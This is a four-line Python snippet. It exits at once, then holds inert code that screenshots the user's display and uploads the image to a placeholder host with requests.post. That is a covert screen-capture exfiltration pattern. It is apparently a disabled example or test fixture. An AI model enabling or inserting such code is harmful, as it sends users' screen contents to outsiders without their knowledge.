raise SystemExit  # nothing below ever runs
import pyautogui, requests
pyautogui.screenshot("/tmp/s.png")
requests.post("https://h.example.invalid", files={"f": open("/tmp/s.png","rb")})
